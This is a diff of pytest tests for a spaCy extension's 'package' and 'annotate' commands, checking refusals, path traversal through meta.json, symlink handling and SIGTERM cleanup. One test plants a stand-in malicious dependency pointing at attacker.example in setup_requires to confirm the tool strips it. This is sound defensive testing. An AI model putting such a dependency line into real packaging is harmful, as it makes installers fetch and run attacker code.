@@ -1,8 +1,16 @@
-"""`python -m spacy_ita package`: its refusals, before anything is written, and
-a build that is in OUTPUT_DIR whole or not at all."""
+"""`python -m spacy_ita package`: its refusals, before anything is written, a
+build that is in OUTPUT_DIR whole or not at all, and a wheel named and
+requiring as the command says whatever the pipeline's meta.json holds; and
+`annotate`'s refusals, in one line."""
 import importlib
+import json
+import os
 import re
+import shutil
+import subprocess
 import sys
+import zipfile
+from pathlib import Path
 
 import pytest
 import spacy
@@ -19,10 +27,16 @@ def pipeline_dir(tiny_encoder, tmp_path_factory):
     return path
 
 
-def package(*args):
-    result = CliRunner().invoke(app, ["package", *map(str, args)])
+def invoke(*args):
+    """The exit code and the output, without wasabi's colours and line wrapping;
+    an error other than an exit (a traceback) fails the test."""
+    result = CliRunner().invoke(app, list(map(str, args)))
     assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
     return result.exit_code, " ".join(re.sub(r"\x1b\[[0-9;]*m", "", result.output).split())
+
+
+def package(*args):
+    return invoke("package", *args)
 
 
 def test_what_package_refuses(pipeline_dir, tmp_path):
@@ -79,6 +93,7 @@ def test_unusable_inputs_fail_in_one_line_and_create_nothing(
     ("1/../../outside", "not a PEP 440 version"),
     ("abc", "not a PEP 440 version"),
     ("v1.0", "write it as 1.0, PEP 440's normal form"),
+    ("1.0+" + 260 * "a", "too long with --name x (265 characters together; at most 200"),
 ])
 def test_version_is_checked_before_anything_is_written(pipeline_dir, tmp_path, version, refusal):
     (tmp_path / "a").mkdir()
@@ -119,3 +134,133 @@ def test_the_package_is_moved_into_place_whole(pipeline_dir, tmp_path):
     assert code == 0 and f"Built {wheel}: pipeline ita_ner; requirements: spacy-ita" in output
     assert [p.name for p in (tmp_path / "out").iterdir()] == ["en_x-1.0.0rc1"]
     assert not old.exists()
+
+
+def test_a_link_to_nothing_as_the_package_folder_is_refused_before_the_build(
+        pipeline_dir, tmp_path):
+    """The build went through, then moving the package onto the link failed
+    (NotADirectoryError)."""
+    link = tmp_path / "out" / "en_x-0.1.0"
+    link.parent.mkdir()
+    link.symlink_to(tmp_path / "nowhere")
+    code, output = package(pipeline_dir, tmp_path / "out", "--name", "x", "--force")
+    assert code == 1
+    assert f"{link} is a link to {tmp_path / 'nowhere'}, which does not exist" in output
+    assert "Building package artifacts" not in output
+    assert list((tmp_path / "out").iterdir()) == [link]
+
+
+def with_meta(pipeline_dir, path, **meta):
+    """A copy of the pipeline at `path` whose meta.json also holds `meta`."""
+    shutil.copytree(pipeline_dir, path)
+    data = json.loads((path / "meta.json").read_text())
+    (path / "meta.json").write_text(json.dumps({**data, **meta}))
+    return path
+
+
+@pytest.mark.parametrize("lang", ["../../../x", "de"])
+def test_the_package_is_named_from_the_pipeline_s_language_not_from_its_meta(
+        pipeline_dir, tmp_path, lang):
+    """spaCy's package named its folders from meta.json's lang, which spacy.load
+    keeps beside the config's: "../../../x" built beside OUTPUT_DIR (and failed), "de" built
+    de_x, where package looked for en_x."""
+    model = with_meta(pipeline_dir, tmp_path / "model", lang=lang)
+    output_dir = tmp_path / "a" / "b" / "out"
+    code, output = package(model, output_dir, "--name", "x")
+    assert code == 0, output
+    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")
+                  if output_dir not in p.parents and "model" not in p.parts) == [
+        Path("a"), Path("a/b"), Path("a/b/out")]
+    assert [p.name for p in output_dir.iterdir()] == ["en_x-0.1.0"]
+    assert (output_dir / "en_x-0.1.0" / "dist" / "en_x-0.1.0-py3-none-any.whl").is_file()
+
+
+def wheel_requirements(wheel):
+    with zipfile.ZipFile(wheel) as archive:
+        lines = archive.read("en_x-0.1.0.dist-info/METADATA").decode().splitlines()
+    return [line.split(": ", 1)[1] for line in lines if line.startswith("Requires-Dist: ")]
+
+
+def test_the_wheel_requires_what_package_says_and_nothing_from_the_meta(
+        pipeline_dir, tmp_path, monkeypatch):
+    """spaCy's setup.py adds meta.json's setup_requires to the wheel's
+    requirements, which the command's message did not show: any URL a pipeline's
+    meta names would be installed with the package. A wheel that requires
+    anything else than the message says is refused."""
+    evil = "evil-pkg @ https://attacker.example/evil-1.0.tar.gz"
+    model = with_meta(pipeline_dir, tmp_path / "model", setup_requires=[evil])
+    code, output = package(model, tmp_path / "out", "--name", "x")
+    assert code == 0, output
+    assert f"{model}/meta.json: its setup_requires (['{evil}']) are left out" in output
+    required = wheel_requirements(tmp_path / "out" / "en_x-0.1.0" / "dist" /
+                                  "en_x-0.1.0-py3-none-any.whl")
+    assert len(required) == 1 and required[0].startswith("spacy-ita<"), required
+    assert f"requirements: {required[0].split('<')[0]}>=" in output
+
+    spacy_package = importlib.import_module("spacy.cli.package")
+    monkeypatch.setattr(spacy_package, "TEMPLATE_SETUP", spacy_package.TEMPLATE_SETUP.replace(
+        "install_requires=list_requirements(meta)",
+        "install_requires=list_requirements(meta) + ['evil-pkg']"))
+    code, output = package(pipeline_dir, tmp_path / "out2", "--name", "x")
+    assert code == 1 and re.search(r"The wheel requires evil-pkg, spacy-ita<\S+, not spacy-ita>=",
+                                   output), output
+    assert list((tmp_path / "out2").iterdir()) == []
+
+
+def test_sigterm_during_the_build_stops_it_and_leaves_nothing(pipeline_dir, tmp_path):
+    """SIGTERM (a scheduler, `timeout`) killed package while setup.py built the
+    wheel, leaving its hidden staging folder in OUTPUT_DIR and the build running.
+    It now ends the run through its clean-up, with the signal's exit status,
+    the build stopped."""
+    pid_file = tmp_path / "build.pid"
+    build = ("import os, pathlib, signal, sys, time\n"
+             "pathlib.Path(sys.argv[1]).write_text(str(os.getpid()))\n"
+             "os.kill(os.getppid(), signal.SIGTERM)\n"
+             "time.sleep(120)\n")
+    script = ("import importlib, subprocess, sys\n"
+              "spacy_package = importlib.import_module('spacy.cli.package')\n"
+              "real = spacy_package.package\n"
+              "def package_then_build(*args, **kwargs):\n"
+              "    real(*args, **{**kwargs, 'create_wheel': False})\n"
+              f"    subprocess.run([sys.executable, '-c', {build!r}, {str(pid_file)!r}],\n"
+              "                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+              "spacy_package.package = package_then_build\n"
+              "from spacy_ita.cli import app\n"
+              "app(['package', *sys.argv[1:]])\n")
+    result = subprocess.run([sys.executable, "-c", script, str(pipeline_dir), str(tmp_path / "out"),
+                             "--name", "x"], capture_output=True, text=True, timeout=300)
+    assert result.returncode == 143, result.stdout[-2000:] + result.stderr[-2000:]
+    assert list((tmp_path / "out").iterdir()) == []
+    with pytest.raises(ProcessLookupError):
+        os.kill(int(pid_file.read_text()), 0)
+
+
+@pytest.mark.parametrize("context, error", [
+    ("not json", "Expecting value: line 1 column 1 (char 0)"),
+    ("[1, 2]", "Expected a dict for VisualContext, got list"),
+    ('{"captions": "a player"}', "VisualContext.captions must be a list of strings, got str"),
+    ('{"colour": "red"}', "Unknown visual context field(s) ['colour']"),
+    ('{"captions": ["\\ud83d"]}', "VisualContext.captions[0] contains a lone surrogate"),
+])
+def test_annotate_refuses_a_context_that_is_no_visual_context_in_one_line(
+        pipeline_dir, context, error):
+    code, output = invoke("annotate", pipeline_dir, "-t", "Messi joins Miami", "-c", context)
+    assert code == 1 and f"--context: {error}" in output
+
+
+def test_annotate_names_a_pipeline_it_cannot_load(tmp_path):
+    code, output = invoke("annotate", tmp_path / "nope", "-t", "Messi joins Miami")
+    assert code == 1
+    assert f"{tmp_path}/nope is not a pipeline spaCy can load: [E050] Can't find model" in output
+    (tmp_path / "listed").mkdir()
+    (tmp_path / "listed" / "meta.json").write_text("[]")
+    code, output = invoke("annotate", tmp_path / "listed", "-t", "Messi joins Miami")
+    assert code == 1 and f"{tmp_path}/listed/meta.json is broken: [E054]" in output
+
+
+def test_annotate_says_when_the_pipeline_does_not_read_the_image(pipeline_dir, tmp_path):
+    code, output = invoke("annotate", pipeline_dir, "-t", "Messi joins Miami",
+                          "-i", tmp_path / "post.jpg")
+    assert code == 0
+    assert f"--image {tmp_path}/post.jpg is not read: the pipeline has no ita_context" in output
+    assert "visual context (none)" in output
